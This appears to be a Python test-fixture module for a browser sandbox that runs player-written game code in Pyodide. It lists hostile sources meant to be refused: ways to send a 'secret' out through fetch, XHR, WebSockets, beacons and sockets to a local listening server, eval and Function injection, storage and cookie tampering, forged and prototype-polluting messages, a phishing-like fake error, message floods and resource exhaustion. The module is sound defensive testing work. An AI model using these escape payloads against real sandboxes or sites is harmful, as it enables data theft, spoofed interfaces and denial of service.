"""Hostile sources for the workshop's frame: what each tries, and where a server listens for it."""

from __future__ import annotations

from collections.abc import Mapping

ATTEMPT = """# kesu-workshop 1 game
import asyncio
import js
import pyodide_js
from game.workshop import limits
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

URL, PORT = {url!r}, {port}
TELL = limits._running.report
CAME = []


def attempt(name, act):
    try:
        act()
        CAME.append(name)
    except Exception:
        pass


def lib(name):
    return __import__(name)


def await_(what):
    asyncio.ensure_future(what)


def up(thing, steps):
    for _step in range(steps):
        thing = js.Object.getPrototypeOf(thing)
    return thing


def made(name, *given):
    return getattr(js, name).new(*given)


def inherited(name):
    for steps in range(1, 5):
        found = getattr(up(js.globalThis, steps), name, None)
        if found is not None:
            return found
    raise AttributeError(name)


def listening_in():
    connection = lib('socket').create_connection(("127.0.0.1", PORT), 1)
    connection.send(b"secret")


def datagram():
    lib('socket').socket(2, 2).sendto(b"secret", ("127.0.0.1", PORT))


WAYS = {{
    "fetch": lambda: js.fetch(URL + "fetch?secret"),
    "fetch, inherited": lambda: inherited("fetch")(URL + "fetch"),
    "request": lambda: made("Request", URL),
    "xhr": lambda: (lambda x: (x.open("GET", URL + "xhr"), x.send()))(made("XMLHttpRequest")),
    "socket": lambda: made("WebSocket", URL.replace("http", "ws") + "socket"),
    "socket stream": lambda: made("WebSocketStream", URL.replace("http", "ws")),
    "events": lambda: made("EventSource", URL + "events"),
    "transport": lambda: made("WebTransport", URL.replace("http:", "https:")),
    "beacon": lambda: js.navigator.sendBeacon(URL + "beacon", "x"),
    "rtc": lambda: made("RTCPeerConnection"),
    "rtc, old name": lambda: made("webkitRTCPeerConnection"),
    "image": lambda: made("Image"),
    "font": lambda: made("FontFace", "x", "url(" + URL + "font)").load(),
    "fonts": lambda: js.fonts.add,
    "document": lambda: js.document.createElement("iframe"),
    "window": lambda: js.window.open(URL),
    "parent": lambda: js.parent.postMessage("x", "*"),
    "top": lambda: js.top.location.assign(URL),
    "parser": lambda: made("DOMParser"),
    "xslt": lambda: made("XSLTProcessor"),
    "location": lambda: js.location.href,
    "navigation": lambda: js.navigation.navigate(URL),
    "history": lambda: js.history.pushState(None, "", "#x"),
    "clients": lambda: js.clients.openWindow(URL),
    "store": lambda: js.localStorage.setItem("kesu/settings", "forged"),
    "session store": lambda: js.sessionStorage.setItem("kesu/again", "1"),
    "database": lambda: js.indexedDB.open("kesu"),
    "database, inherited": lambda: inherited("indexedDB"),
    "caches": lambda: js.caches.delete("kesu-build"),
    "caches, inherited": lambda: inherited("caches"),
    "cookies": lambda: js.cookieStore.set("a", "1"),
    "storage": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.request("kesu", create_proxy(lambda _lock: None)),
    "service worker": lambda: js.navigator.serviceWorker.register("../sw.js"),
    "channel": lambda: made("BroadcastChannel", "kesu").postMessage("forged"),
    "message channel": lambda: made("MessageChannel"),
    "message": lambda: js.postMessage("forged"),
    "message, inherited": lambda: inherited("postMessage")("forged"),
    "listener": lambda: js.addEventListener("message", create_proxy(print)),
    "listener, inherited": lambda: inherited("addEventListener"),
    "notification": lambda: made("Notification", "x"),
    "worker": lambda: made("Worker", "data:,x"),
    "shared worker": lambda: made("SharedWorker", "data:,x"),
    "blob": lambda: made("Blob", to_js(["fetch('" + URL + "blob')"])),
    "address of a blob": lambda: js.URL.createObjectURL(None),
    "scripts": lambda: js.importScripts(URL + "scripts"),
    "scripts, inherited": lambda: inherited("importScripts")(URL),
    "eval": lambda: js.eval("fetch('" + URL + "eval')"),
    "function": lambda: js.Function.new("fetch('" + URL + "function')")(),
    "constructor": lambda: js.Object.constructor("fetch('" + URL + "constructor')")(),
    "asynchronous function": lambda: js.prelit.find.constructor.new("return 1")(),
    "timer of text": lambda: js.setTimeout("fetch('" + URL + "timer')", 0) and 1 / 0,
    "run_js": lambda: run_js("fetch('" + URL + "run')"),
    "trusted types": lambda: js.trustedTypes.createPolicy("kesu", None),
    "scope": lambda: js.globalThis.constructor.name and js.WorkerGlobalScope,
    "streaming": lambda: js.WebAssembly.compileStreaming(None),
    "sockets": listening_in,
    "datagram": datagram,
    "asyncio": lambda: asyncio.get_event_loop().run_until_complete(asyncio.open_connection("127.0.0.1", PORT)),
    "urllib": lambda: lib('urllib.request').request.urlopen(URL + "urllib", timeout=1),
    "open_url": lambda: lib('pyodide.http').http.open_url(URL + "open"),
    "a process": lambda: lib('subprocess').run(["true"], check=True),
    "fork": lambda: lib('os').fork(),
    "thread": lambda: lib('threading').Thread(target=print).start(),
    "a browser": lambda: lib('webbrowser').open(URL) or 1 / 0,
    "files in the browser": lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, None, "/tmp") and 1 / 0,
    "large message": lambda: TELL(js.Array.new(1_000_000)) and 1 / 0,
}}
"""
"""Ways out: to the network, to storage, to other places, into JavaScript. `WAYS` runs whole, or a part of it."""

RUN = """
for name, act in list(WAYS.items())[{part}]:
    attempt(name, act)
attempt("pyfetch", lambda: await_(lib('pyodide.http').http.pyfetch(URL + "pyfetch")) or 1 / 0)
attempt("package", lambda: pyodide_js.loadPackage(URL + "package.whl") and 1 / 0)
[TELL(text) for text in FORGED]
raise ValueError("came: " + ", ".join(CAME))
"""

REACHING = """# kesu-workshop 1 game
import js
from game.workshop import limits

limits._running.ends = 1e9, 1e9  # WebKit takes more than two seconds
REVIEWED = set('''{reviewed}'''.split())
call, one, seen = js.Reflect.apply, js.Array.of, js.WeakSet.new()
EMPTY = one(one())
PRIMITIVE = {{f"[object {{name}}]" for name in "Undefined Null Boolean Number BigInt String Symbol".split()}}
found, queue = [], [(one(js.globalThis), "globalThis", 0)]


def kind(box):
    '''The kind of the value in a box; empty for one that is no object.'''
    name = call(call, None, one(js.Object.prototype.toString).concat(box, EMPTY))
    return "" if name in PRIMITIVE and not call(js.Object.isExtensible, None, box) else name


# Each value stays in a JavaScript array: Python would look into it, and some prototypes answer with an error.
for box, name, deep in queue:
    if deep > 4 or call(seen.has, seen, box):
        continue
    call(seen.add, seen, box)
    keys = call(js.Reflect.ownKeys, None, box)
    words = [str(js.String(key)) for key in keys]
    for at in sorted(range(len(words)), key=words.__getitem__):
        place = call(js.Object.getOwnPropertyDescriptor, None, box.concat(keys.slice(at, at + 1)))
        where, parts = f"{{name}}.{{words[at]}}", js.Object.values(place)
        boxes = [parts.slice(0, 1)] if js.Object.hasOwn(place, "value") else [parts.slice(0, 1), parts.slice(1, 2)]
        kinds = [kind(each) for each in boxes]
        if len(boxes) == 2 or kinds[0].endswith("Function]"):
            found.append(where.replace(" ", "_"))
        queue += ((each, where, deep + 1) for each, of in zip(boxes, kinds) if of)
    above = getattr(js.Array, "from")(box, js.Object.getPrototypeOf)
    if kind(above):
        queue.append((above, f"{{name}}.[[Prototype]]", deep + 1))
raise ValueError(f"reached {{len(found)}}, new: {{' '.join(each for each in found if each not in REVIEWED)}}.")
"""
"""Names everything that can be reached from the global object and is not on the list, as test_workshop.py does."""
QUIET = {"timer of text", "a browser", "files in the browser", "large message"}
"""The following do nothing instead of failing."""

FORGED = """
FORGED = [
    "", "null", "[]", "1", "{", "[" * 10_000, '{"is": "constructor"}', '{"is": "__proto__"}', '{"is": "shown"}',
    '{"is": "shown", "task": 1, "title": {"x": 1}}', '{"is": "failed", "task": 1e300, "line": -1, "problem": "x"}',
    '{"is": "failed", "task": 1, "line": 1, "problem": "' + "x" * 1000 + '"}',
    '{"is": "games", "task": 1, "player": -1}', '{"is": "started", "task": 1, "players": ["Kesu says: call 555"]}',
    '{"is": "ready", "__proto__": {"polluted": 1}}', "x" * 30_000_000,
]
"""

ALONE: Mapping[str, str] = {
    "a loop": "while True:\n    pass\n",
    "a loop that catches": "while 1:\n    try:\n        while 1: pass\n    except Exception:\n        x = 2\n",
    "much memory": "rows = []\nwhile True:\n    rows.append(bytearray(10_000_000))\n",
    "a deep call": "def f():\n    return f()\n\n\nf()\n",
    "the end of the program": "raise SystemExit\n",
    "no game": "x = 1\n",
    "no Python": "board[(\n",
    "half a megabyte": "x = 1\n" * 80_000,
}
"""Sources that harm only themselves; each ends in a message."""

FORGE = """
import js
from game.workshop import limits

TELL = limits._running.report
GAMES = '{"is": "games", "task": 1, "player": 0, "values": [1e308, -1e308], "lines": ["forged"]}'
SHAPES = [
    "", "[]", '{"is": "shown"}', '{"is": "started", "task": 1, "players": ["<b>forged</b>"]}', GAMES, "x" * 20_001,
]

"""
FLOODS: Mapping[str, str] = {
    "signs of life": FORGE + 'while True:\n    TELL(\'{"is": "beat"}\')\n',
    "forged shapes": FORGE + "for number in range(3000):\n    TELL(SHAPES[number % len(SHAPES)])\n",
    "long texts": FORGE + "while True:\n    TELL('x' * 100_000)\n",
    "lines": FORGE + "for number in range(100_000):\n    TELL(number)\n",
}
"""Sources that flood the surrounding page with messages."""
FLOODED = "/too many messages|longer than 2 seconds/.test(document.getElementById('message').textContent)"
"""How each ends: on a slow machine the time limit of two seconds may come before the limit on messages."""

LIE = (
    FORGE
    + """
import gc
import json
from game.play.workshop.bench import Bench

RULES = ["x", "x" * 5000, [], [], [], 1, [0, 0], False, False, []]
BOARD = [["@" * 64] * 65, [], [], [], [], "", [], 0, []]
LIES = [
    [["Opening", 1, RULES, [[], False, [], 0, [], 0, [0], [], None, False], ["a"], "", False, False]],
    [["BoardsChanged", [[BOARD], False, [], 0, [], 0, [0], [], None, False], [], [], [], True]],
    [["Said", "x" * 5000, "", ""]],
    [["ActionWanted", "mute"]],
    "x",
]
task = next(each for each in gc.get_objects() if isinstance(each, Bench))._task
TELL(json.dumps({"is": "show", "task": task, "changes": json.dumps(LIES[%d])}))
"""
)
"""What cannot be shown: one of five things."""
MOST_LIES = 5

AS_THE_PAGE = """
import gc
import json
from game.play.workshop.bench import Bench
from game.workshop import limits

TELL = limits._running.report
TASK = next(each for each in gc.get_objects() if isinstance(each, Bench))._task
WORDS = "Kesu: your games could not be saved. Go to kesu-" + "help.example"
TELL(json.dumps({"is": "failed", "task": TASK, "line": 0, "problem": WORDS}))
raise ValueError(WORDS)
"""
"""Speaks in the page's voice: an error in no line, as the page's own errors are."""
GRABS = """
import gc
import json
from game.play.workshop.bench import Bench
from game.workshop import limits

TELL = limits._running.report
TASK = next(each for each in gc.get_objects() if isinstance(each, Bench))._task


GRABBED = []


def grab():
    if len(GRABBED) < 30:
        GRABBED.append(TELL(json.dumps({"is": "shown", "task": TASK})))


"""
"""Says again and again that its game has just been shown, at which the board gets the focus."""


SHOWN_IN_EVERY_FRAME = """

import gc
import json
from game.play.workshop.bench import Bench
from game.workshop import limits

TELL = limits._running.report
BENCH = next(each for each in gc.get_objects() if isinstance(each, Bench))


def frame():
    TELL(json.dumps({"is": "shown", "task": BENCH._task}))
    return 100.0


BENCH.run_frame = frame
"""
"""Says ten times a second that its game has just been shown."""
STIRS = SHOWN_IN_EVERY_FRAME.replace(
    "    return 100.0\n",
    """    ROUND.append(1)
    words = f"{len(ROUND)} times"
    changes = [
        ["ReplayShown", True, 0, 5, words, False, [], [words]], ["Said", words, "", ""],
        ["PossibleActions", [["left"], []][len(ROUND) % 2], True, True, True, True],
    ]
    TELL(json.dumps({"is": "failed", "task": BENCH._task, "line": 1, "problem": words}))
    TELL(json.dumps({"is": "show", "task": BENCH._task, "changes": json.dumps(changes)}))
    return 100.0
""",
).replace("\ndef frame", "ROUND = []\n\n\ndef frame")
"""Also tries whatever else could move the focus, scroll or speak."""
LENIENT = (
    FORGE
    + """
import js
from pyodide.ffi import create_proxy

js.Number.isSafeInteger = create_proxy(lambda said: True)
TELL(js.Object.new())
raise ValueError("nothing was sent")
"""
)
"""Lets everything pass for a number, and sends an object."""
RESULTS = """
import json
import sys
from game.workshop import limits

TELL = limits._running.report


def task():
    frame = sys._getframe()
    while True:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "task" in value:
                return value["task"]
        frame = frame.f_back


TASK = task()


def choose(state, moves, view):
    for values, lines in (([1] * 40, []), ([1] * 40, ["{}"] * 39), ([1] * 40, ["{}"] * 40)):
        TELL(json.dumps({"is": "games", "task": TASK, "player": 0, "values": values, "lines": lines}))
    raise ValueError("that was all")
"""
"""A player that says more results than its tournament has games."""


def reaching_out(url: str, port: int, part: str = ":") -> str:
    """Returns the source that tries ways to reach out: all of them, or a slice of them."""
    return ATTEMPT.format(url=url, port=port) + FORGED + RUN.format(part=part)


RAW: Mapping[str, str] = {
    "fetch": "fetch(URL + 'fetch?secret')",
    "fetch without an answer": "fetch(URL + 'opaque', { mode: 'no-cors', keepalive: true })",
    "fetch of data": "fetch(`data:text/plain,${URL}`)",
    "xhr": "new Promise((a, b) => { const x = new XMLHttpRequest(); x.open('POST', URL + 'xhr'); "
    "x.onload = a; x.onerror = b; x.send('s'); })",
    "xhr at once": "(() => { const x = new XMLHttpRequest(); x.open('GET', URL + 'now', false); x.send(); })()",
    "socket": "new Promise((a, b) => { const s = new WebSocket(URL.replace('http', 'ws')); "
    "s.onopen = a; s.onerror = b; })",
    "socket stream": "new WebSocketStream(URL.replace('http', 'ws')).opened",
    "events": "new Promise((a, b) => { const s = new EventSource(URL); s.onopen = a; s.onerror = b; })",
    "transport": "new WebTransport(URL.replace('http:', 'https:')).ready",
    "beacon": "navigator.sendBeacon(URL + 'beacon', 's') || Promise.reject()",
    "rtc": "new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] }).createDataChannel('x')",
    "scripts": "importScripts(URL + 'scripts.js')",
    "scripts of a blob": "importScripts(URL_OF_BLOB)",
    "module": "import(URL + 'module.js')",
    "module of a blob": "import(URL_OF_BLOB)",
    "module of data": "import('data:text/javascript,1')",
    "eval": "eval('1')",
    "function": "Function('return 1')()",
    "font": "new FontFace('x', `url(${URL}font)`).load()",
    "database": "new Promise((a, b) => { const r = indexedDB.open('kesu'); r.onsuccess = a; r.onerror = b; })",
    "caches": "caches.open('kesu').then((cache) => cache.add(URL))",
    "files": "navigator.storage.getDirectory()",
    "service worker": "navigator.serviceWorker.register('/sw.js')",
    "document": "document.body",
    "parent": "parent.location",
    "a frame": "new XSLTProcessor()",
    "shared worker": "new SharedWorker(URL)",
    "worker of an address": "new Promise((a, b) => { const w = new Worker(URL + 'worker.js'); "
    "w.onmessage = a; w.onerror = b; })",
    "image": "createImageBitmap(new Image())",
    "locks": "navigator.locks.request('kesu', () => 1)",
}
"""The same in JavaScript, in a worker from which no name was removed: only the browser refuses here."""

SCRIPT = """onmessage = async ({{ data: {{ url: URL, port: PORT, nested }} }}) => {{
  const URL_OF_BLOB = self.URL.createObjectURL(new Blob(["postMessage(1)"], {{ type: "text/javascript" }}));
  const came = [];
  const ways = {{ {attempts} }};
  for (const [name, act] of Object.entries(ways)) {{
    try {{
      const late = new Promise((_, fail) => setTimeout(fail, 1500));
      await Promise.race([(async () => act())().then(() => came.push(name)), late]);
    }} catch {{ /* refused */ }}
  }}
  postMessage(JSON.stringify({{ is: "failed", task: 0, line: 0, problem: came.join() }}));
}};"""


def raw_script() -> str:
    """Returns the worker's script that tries RAW and answers with those that were not refused."""
    return SCRIPT.format(attempts=", ".join(f"{name!r}: () => {act}" for name, act in RAW.items()))
